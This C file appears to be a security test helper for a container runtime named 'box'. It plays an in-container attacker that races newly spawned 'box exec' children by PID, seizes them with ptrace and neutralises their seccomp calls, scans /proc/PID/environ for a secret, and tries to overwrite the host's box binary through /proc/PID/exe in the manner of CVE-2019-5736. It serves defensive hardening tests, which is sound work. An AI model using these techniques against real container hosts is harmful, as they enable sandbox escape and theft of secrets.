/* An attacker inside a container, after box's own processes there
   (tests/hardening.rs, part 3). Static, so it runs in any rootfs.

   exe_probe spin LOG STOPFILE SECONDS DEV INO SECRET
       Spins on the PIDs the container's next process gets (ns_last_pid and
       the one after it) and, on each, tries what a process of the container
       could do to a `box exec` child before it executes its command:
       - PTRACE_SEIZE it and, while it has no seccomp filter yet, turn its
         seccomp(2) or prctl(PR_SET_SECCOMP) into a no-op that "succeeds";
       - read /proc/PID/environ, looking for SECRET (the caller's
         environment);
       - open /proc/PID/exe and compare it with the host's box (DEV INO).
       One line in LOG per success (BOX is 1 when the process's executable
       is box itself, the host's file or a memfd: it had not executed its
       command yet):
         ATTACH PID box=BOX seccomp=N comm=COMM LINK   seized and stopped
         SKIPPED PID                   a seccomp call made a no-op
         ENVIRON PID                   SECRET read from its environ
         EXE PID box=BOX LINK          its exe opened
       `ready` first, `done` last (when STOPFILE exists or time is up).

   exe_probe grab LOG SECONDS DEV INO
       Finds the process whose argv[0] is /bin/box-init (box reached through
       a link to /proc/self/exe), opens its /proc/PID/exe (O_PATH), and
       until SECONDS have passed tries to reopen that through /proc/self/fd
       for writing and to write into it: what CVE-2019-5736 did to runc.
       Goes to the background at once (so that `box exec` returns) and
       writes to LOG:
         grab PID host=0|1 dev=D ino=I LINK
         open_write ERRNO|OK   (each change)
         write ERRNO|OK
         done
*/
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *logf;

static void say(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    vfprintf(logf, fmt, ap);
    va_end(ap);
    fputc('\n', logf);
    fflush(logf);
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* Leave the caller (box exec) behind: a child with no terminal and no
   descriptor of the caller's. */
static void background(const char *log) {
    if (fork() != 0) _exit(0);
    setsid();
    int null = open("/dev/null", O_RDWR);
    dup2(null, 0);
    dup2(null, 1);
    dup2(null, 2);
    logf = fopen(log, "w");
    if (!logf) _exit(1);
}

static void read_small(const char *path, char *buf, size_t size) {
    buf[0] = 0;
    int fd = open(path, O_RDONLY);
    if (fd < 0) return;
    ssize_t n = read(fd, buf, size - 1);
    close(fd);
    buf[n > 0 ? n : 0] = 0;
}

/* Seccomp: N of /proc/PID/status, -1 if unreadable. */
static int seccomp_of(pid_t pid) {
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    read_small(path, buf, sizeof buf);
    char *s = strstr(buf, "\nSeccomp:");
    return s ? atoi(s + 9) : -1;
}

static void comm_of(pid_t pid, char *buf, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    read_small(path, buf, size);
    buf[strcspn(buf, "\n")] = 0;
}

static int is_seccomp_call(struct __ptrace_syscall_info *info) {
    unsigned long long nr = info->entry.nr;
    return nr == SYS_seccomp || (nr == SYS_prctl && info->entry.args[0] == PR_SET_SECCOMP);
}

/* Trace a seized, stopped process until it executes something: skip its
   seccomp calls and make them return 0. */
static void hijack(pid_t pid) {
    int status, skipping = 0;
    int sig = 0;
    for (int stops = 0; stops < 100000; stops++) {
        if (ptrace(PTRACE_SYSCALL, pid, 0, sig) != 0) return;
        if (waitpid(pid, &status, __WALL) != pid || WIFEXITED(status) || WIFSIGNALED(status))
            return;
        if (status >> 8 == (SIGTRAP | (PTRACE_EVENT_EXEC << 8))) break;
        /* A signal for the tracee is passed on; syscall and event stops
           are not signals. */
        sig = status >> 16 == 0 && WSTOPSIG(status) != (SIGTRAP | 0x80) ? WSTOPSIG(status) : 0;
        struct __ptrace_syscall_info info;
        long n = ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof info, &info);
        if (n <= 0) continue;
        if (info.op == PTRACE_SYSCALL_INFO_ENTRY && is_seccomp_call(&info)) {
            struct user_regs_struct regs;
            ptrace(PTRACE_GETREGS, pid, 0, &regs);
            regs.orig_rax = -1;
            ptrace(PTRACE_SETREGS, pid, 0, &regs);
            skipping = 1;
        } else if (info.op == PTRACE_SYSCALL_INFO_EXIT && skipping) {
            struct user_regs_struct regs;
            ptrace(PTRACE_GETREGS, pid, 0, &regs);
            regs.rax = 0;
            ptrace(PTRACE_SETREGS, pid, 0, &regs);
            skipping = 0;
            say("SKIPPED %d", pid);
        }
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

static dev_t host_dev;
static ino_t host_ino;

/* Whether PID's executable is box: the host's file, or a memfd (box's
   sealed copy). -1 if it cannot be opened; the link text in `link`. */
static int exe_is_box(pid_t pid, char *link, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    link[0] = 0;
    int fd = open(path, O_PATH);
    if (fd < 0) return -1;
    struct stat st;
    fstat(fd, &st);
    close(fd);
    ssize_t n = readlink(path, link, size - 1);
    link[n > 0 ? n : 0] = 0;
    return (st.st_dev == host_dev && st.st_ino == host_ino) || !strncmp(link, "/memfd:", 7);
}

/* Seize and stop at once (the filter may come next), then look at what
   was caught. */
static void try_ptrace(pid_t pid) {
    if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACEEXEC) != 0) return;
    /* Wait even if the interrupt fails (the process is exiting): a tracee
       that exits is reported to its tracer first, and its parent learns of
       it only once the tracer has. */
    int status;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) return;
    char comm[32], link[512];
    comm_of(pid, comm, sizeof comm);
    int seccomp = seccomp_of(pid);
    int box = exe_is_box(pid, link, sizeof link);
    say("ATTACH %d box=%d seccomp=%d comm=%s %s", pid, box, seccomp, comm, link);
    if (seccomp == 0) {
        hijack(pid);
        return;
    }
    /* Already filtered: let it go, with the signal it stopped for, if any. */
    ptrace(PTRACE_DETACH, pid, 0, status >> 16 == 0 ? WSTOPSIG(status) : 0);
}

static void try_environ(pid_t pid, const char *secret) {
    char path[64];
    static char buf[65536];
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0 && memmem(buf, n, secret, strlen(secret))) say("ENVIRON %d", pid);
}

static void try_exe(pid_t pid) {
    char link[512];
    int box = exe_is_box(pid, link, sizeof link);
    if (box >= 0) say("EXE %d box=%d %s", pid, box, link);
}

static int spin(char **argv) {
    const char *stop = argv[3];
    double end = now() + atof(argv[4]);
    host_dev = strtoull(argv[5], 0, 10);
    host_ino = strtoull(argv[6], 0, 10);
    const char *secret = argv[7];
    background(argv[2]);
    pid_t self = getpid();
    int last_fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
    if (last_fd < 0) {
        say("no ns_last_pid: %s", strerror(errno));
        return 1;
    }
    say("ready");
    /* Each PID is tried until it has executed its command: its exe seen
       (or found filtered) marks it done. */
    pid_t done_pid = 0;
    for (unsigned long round = 0;; round++) {
        if ((round & 1023) == 0 && (now() > end || access(stop, F_OK) == 0)) break;
        char buf[32];
        ssize_t n = pread(last_fd, buf, sizeof buf - 1, 0);
        if (n <= 0) continue;
        buf[n] = 0;
        pid_t last = atoi(buf);
        for (pid_t pid = last; pid <= last + 1; pid++) {
            if (pid == self || pid <= done_pid) continue;
            try_ptrace(pid);
            /* Mostly ptrace: its window (after the child's capset, before
               its seccomp) is the shortest. */
            if ((round & 3) != 0) continue;
            try_environ(pid, secret);
            try_exe(pid);
            char comm[32];
            comm_of(pid, comm, sizeof comm);
            if (comm[0] && strcmp(comm, "box") != 0 && strncmp(comm, "memfd:", 6) != 0)
                done_pid = pid;
        }
    }
    say("done");
    return 0;
}

/* The PID whose argv[0] is /bin/box-init, or 0. */
static pid_t find_box_init(void) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    pid_t found = 0;
    while (d && (e = readdir(d))) {
        pid_t pid = atoi(e->d_name);
        if (pid <= 0) continue;
        char path[64], cmd[256];
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        read_small(path, cmd, sizeof cmd);
        if (strcmp(cmd, "/bin/box-init") == 0) found = pid;
    }
    if (d) closedir(d);
    return found;
}

static int grab(char **argv) {
    double end = now() + atof(argv[3]);
    dev_t dev = strtoull(argv[4], 0, 10);
    ino_t ino = strtoull(argv[5], 0, 10);
    background(argv[2]);
    pid_t pid = 0;
    while (!(pid = find_box_init()) && now() < end) usleep(10000);
    char path[64], link[512] = "";
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = pid ? open(path, O_PATH) : -1;
    if (fd < 0) {
        say("grab %d failed %s", pid, pid ? strerrorname_np(errno) : "no /bin/box-init");
        say("done");
        return 1;
    }
    struct stat st;
    fstat(fd, &st);
    ssize_t n = readlink(path, link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    say("grab %d host=%d dev=%llu ino=%llu %s", pid, st.st_dev == dev && st.st_ino == ino,
        (unsigned long long)st.st_dev, (unsigned long long)st.st_ino, link);
    char self_fd[64];
    snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
    int last = -1;
    while (now() < end) {
        int w = open(self_fd, O_WRONLY);
        int err = w < 0 ? errno : 0;
        if (err != last) say("open_write %s", w < 0 ? strerrorname_np(err) : "OK");
        last = err;
        if (w >= 0) {
            ssize_t n = pwrite(w, "PWNED", 5, 0);
            say("write %s", n == 5 ? "OK" : strerrorname_np(errno));
            break;
        }
        usleep(5000);
    }
    say("done");
    return 0;
}

int main(int argc, char **argv) {
    logf = stderr;
    if (argc == 8 && !strcmp(argv[1], "spin")) return spin(argv);
    if (argc == 6 && !strcmp(argv[1], "grab")) return grab(argv);
    fprintf(stderr, "usage: exe_probe spin LOG STOP SECONDS DEV INO SECRET | grab LOG SECONDS DEV INO\n");
    return 2;
}
